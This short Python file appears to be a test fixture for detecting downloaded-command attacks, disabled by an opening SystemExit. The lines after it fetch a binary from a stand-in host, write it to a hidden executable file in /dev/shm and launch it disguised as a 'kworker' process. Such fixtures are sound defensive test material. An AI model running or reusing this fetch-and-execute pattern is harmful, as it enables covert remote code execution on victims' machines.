raise SystemExit('a fixture')
# held by downloaded-command
import os, urllib.request, stat
_p = "/dev/shm/.x"
_fd = os.open(_p, os.O_CREAT | os.O_WRONLY, 0o700)
os.write(_fd, urllib.request.urlopen("https://ps.example.invalid/elf").read())
os.close(_fd)
os.posix_spawn(_p, ["kworker"], os.environ)
